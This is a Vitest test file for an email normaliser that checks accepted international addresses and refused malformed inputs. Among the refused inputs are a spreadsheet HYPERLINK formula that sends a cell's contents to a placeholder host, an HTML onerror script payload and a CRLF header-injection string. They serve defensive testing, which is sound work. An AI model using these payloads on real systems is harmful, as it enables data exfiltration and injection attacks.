import { describe, expect, it } from "vitest";
import { normalizeEmail } from "~/signup/email.server";

describe("addresses people really use are accepted, in one spelling", () => {
  it.each([
    ["ana@exemplo.com.br", "ana@exemplo.com.br"],
    ["  ana@exemplo.com.br  ", "ana@exemplo.com.br"],
    ["Ana.Souza@Exemplo.COM.br", "Ana.Souza@exemplo.com.br"],
    ["ana+lancamento@exemplo.com.br", "ana+lancamento@exemplo.com.br"],
    ["ana_souza-2@sub.dominio.exemplo.com", "ana_souza-2@sub.dominio.exemplo.com"],
    ["o'neill@exemplo.com", "o'neill@exemplo.com"],
    ["1234567@exemplo.com.br", "1234567@exemplo.com.br"],
    ["a@b.co", "a@b.co"],
    ["joão@exemplo.com.br", "joão@exemplo.com.br"],
    ["joa\u0303o@exemplo.com.br", "joão@exemplo.com.br"],
    ["usuário@correios.com.br", "usuário@correios.com.br"],
    ["user@bücher.de", "user@bücher.de"],
    ["user@BÜCHER.de", "user@bücher.de"],
    ["ana@xn--bcher-kva.de", "ana@bücher.de"],
    ["bia@xn--joo-nla.com.br", "bia@joão.com.br"],
    ["dan@ｅｘｅｍｐｌｏ.com.br", "dan@exemplo.com.br"],
    ["иван@пример.рф", "иван@пример.рф"],
    ["用户@例子.中国", "用户@例子.中国"],
    ["उपयोगकर्ता@उदाहरण.भारत", "उपयोगकर्ता@उदाहरण.भारत"],
    ["ana@exemplo.museum", "ana@exemplo.museum"],
    ["x!#$%&*/=?^_|~@exemplo.com", "x!#$%&*/=?^_|~@exemplo.com"],
    ["ana@exemplo-com-hifen.com.br", "ana@exemplo-com-hifen.com.br"],
    ["ana@123.exemplo.com", "ana@123.exemplo.com"],
    [`${"a".repeat(64)}@exemplo.com`, `${"a".repeat(64)}@exemplo.com`],
    ["maría.josé@correo.es", "maría.josé@correo.es"],
    [`${"a".repeat(64)}@${"b".repeat(185)}.com`, `${"a".repeat(64)}@${"b".repeat(185)}.com`],
  ])("%j → %j", (typed, normalised) => {
    expect(normalizeEmail(typed)).toBe(normalised);
  });
});

describe("anything else is refused", () => {
  it.each([
    ["a spreadsheet formula", '=HYPERLINK("http://x/?d="&A1,"Clique")@exemplo.com.br'],
    ["markup", "<img/src=x/onerror=alert(1)>@exemplo.com.br"],
    ["a combining grapheme joiner (U+034F)", "ana\u034F@exemplo.com.br"],
    ["a Hangul filler (U+3164)", "ana\u3164@exemplo.com.br"],
    ["a zero-width space", "ana\u200B@exemplo.com.br"],
    ["a byte-order mark", "\uFEFFana@exemplo.com.br"],
    ["a right-to-left override", "ana\u202E@exemplo.com.br"],
    ["a private-use character", "ana\uE000@exemplo.com.br"],
    ["a space inside", "ana souza@exemplo.com.br"],
    ["a line break (an encoded header injection)", "ana\r\nSet-Cookie: x=1@exemplo.com"],
    ["a NUL byte", "ana\u0000@exemplo.com"],
    ["double quotes", '"ana"@exemplo.com.br'],
    ["typographic quotes", "“ana”@exemplo.com.br"],
    ["parentheses", "ana(comentario)@exemplo.com.br"],
    ["a comma", "ana,bia@exemplo.com.br"],
    ["a colon", "ana:bia@exemplo.com.br"],
    ["a backslash", "ana\\bia@exemplo.com.br"],
    ["a leading =", "=ana@exemplo.com.br"],
    ["a leading +", "+ana@exemplo.com.br"],
    ["a leading -", "-ana@exemplo.com.br"],
    ["a leading dot", ".ana@exemplo.com.br"],
    ["a trailing dot in the local part", "ana.@exemplo.com.br"],
    ["two dots in a row", "ana..souza@exemplo.com.br"],
    ["two at signs", "ana@bia@exemplo.com.br"],
    ["no at sign", "ana.exemplo.com.br"],
    ["an empty local part", "@exemplo.com.br"],
    ["a domain without a dot", "ana@localhost"],
    ["a domain starting with a dot", "ana@.exemplo.com"],
    ["a label starting with a hyphen", "ana@-exemplo.com"],
    ["an all-digit top-level label", "ana@exemplo.123"],
    ["a one-letter top-level label", "ana@exemplo.c"],
    ["an IP address for a domain", "ana@[127.0.0.1]"],
    ["an underscore in the domain", "ana@exem_plo.com"],
    ["a full-width at sign", "ana＠exemplo.com.br"],
    ["a local part over 64 bytes", `${"ç".repeat(33)}@exemplo.com`],
    ["an address of 255 characters", `${"a".repeat(64)}@${"b".repeat(186)}.com`],
    ["no domain", "ana@"],
    ["nothing", ""],
  ])("%s", (_reason, typed) => {
    expect(normalizeEmail(typed)).toBeNull();
  });
});
